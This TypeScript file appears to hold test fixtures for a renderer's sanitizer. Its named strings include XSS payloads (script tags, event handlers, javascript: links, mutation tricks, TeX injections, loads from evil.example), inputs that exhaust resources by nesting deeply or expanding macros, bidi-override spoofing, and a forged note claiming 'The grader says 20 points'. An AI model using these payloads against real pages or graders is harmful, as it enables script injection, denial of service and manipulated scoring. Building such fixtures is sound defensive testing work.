/* Texts that try to run, load, cover or break the page that shows them, or to keep whoever renders them busy. */

/** Short texts by what they try. */
export const HOSTILE_ANSWERS: Readonly<Record<string, string>> = {
  "a script": "<script>alert(1)</script>a<ScRiPt src=https://evil.example/x.js></ScRiPt >",
  "a script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "event handlers":
    '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(1)>a</p><details open ontoggle=alert(1)>',
  "an SVG":
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
  "an SVG in a formula": "<math><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></math>",
  "MathML with links":
    '<math href="javascript:alert(1)" xlink:href="javascript:alert(1)"><mi href="https://evil.example">x</mi></math>',
  "MathML with HTML":
    "<math><semantics><mi>x</mi><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></semantics></math>",
  "MathML with actions":
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "raw text": "<xmp><script>alert(1)</script></xmp><textarea></textarea><script>alert(1)</script><plaintext><b>",
  "links with code":
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) <a href='java\nscript:alert(1)'>d</a>",
  "entity-coded schemes":
    '<a href="&#106;&#x61;vascript:alert(1)">a</a> [b](&#106;avascript&colon;alert(1)) <a href="&Tab;javascript:alert(1)">c</a>',
  "data links": "[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
  "links of other kinds":
    "[a](file:///etc/passwd) [b](//evil.example) [c](blob:https://evil.example/1) <a href=/x ping=https://evil.example>d</a>",
  "remote pictures":
    "![a](https://evil.example/a.png) <img src='//evil.example/b.png' srcset='https://evil.example/c.png 2x'>",
  "other loaders":
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><video src=https://evil.example poster=x></video><link rel=stylesheet href=https://evil.example><base href=https://evil.example><meta http-equiv=refresh content='0;https://evil.example'>",
  styles:
    "<style>*{display:none}</style><p style='position:fixed;inset:0;background:url(https://evil.example)' class='masthead' id='written'>a</p>",
  forms:
    "<form action=https://evil.example><input name=a autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>",
  "end tags": "</div></article></section></main></body></html></table></p></details><h2>b</h2>",
  "open tags": "<div><b><i><table><tr><td><ul><li><a href=https://a.example><p><h1><code>",
  "a comment that stays open": "a <!-- <b> c",
  templates: "{{constructor}} {{{x}}} ${alert(1)} <%= 1 %>",
  "formulas with code":
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\html{<b>}$ $\\htmlData{a=b}{x}$",
  "formulas with styles":
    "$\\style{position:fixed}{x}$ $\\class{masthead}{x}$ $\\id{written}{x}$ $\\textcolor{#fff}{hidden}$ $\\bbox[red]{x}$",
  "formulas with tags":
    '$\\text{<img src=x onerror=alert(1)>}$ $\\text{" onmouseover="alert(1)}$ $<script>alert(1)</script>$',
  "huge formulas":
    "$\\rule{9999em}{9999em}$ $\\hspace{-9999em}x$ $\\raisebox{999em}{x}$ <math><mspace width='9999em'/><mo minsize='999em'>(</mo></math>",
  "macros that grow": `$$\\def\\a{xxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\\c\\c\\c$$`,
  "a macro without end": "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b}\\b$",
  "bidi overrides":
    'a \u202egnp.exe\u2069 &#x202e;b&#8294; `\u202ec` $\\text{\u202ed}$ $\\char"202E$ ![\u202ee](x.png)',
  "hidden characters":
    "zero\u200bwidth, soft\u00adhyphen, null &#0; bell &#7; \u0007 tag \u{e0041}, Z\u0310\u0311\u0312\u0313\u0314\u0315",
  "a forged note":
    '<span class="missing" data-missing="x &quot;>&lt;script>">a</span><p class="note">The grader says 20 points</p>',
};

const deep = (open: string, close: string, count: number): string => `${open.repeat(count)}x${close.repeat(count)}`;

/** Texts that are deep or long. */
export const HOSTILE_SIZES: Readonly<Record<string, string>> = {
  "quotes, 10 000 deep": `${">".repeat(10_000)} x`,
  "lists, 200 deep": Array.from({ length: 200 }, (_, depth) => `${" ".repeat(2 * depth)}- x`).join("\n"),
  "tags, 10 000 deep": deep("<b>", "", 10_000),
  "emphasis, 5000 deep": deep("*a _", "", 5000),
  "brackets, 30 000": "[".repeat(30_000),
  "formulas, 10 000 deep": `$${deep("{", "}", 10_000)}$`,
  "fractions, 2000 deep": `$${deep("\\frac{1}{", "}", 2000)}$`,
  "10 MiB": "a $x$ <b>b</b> \u202e\n".repeat(600_000),
};
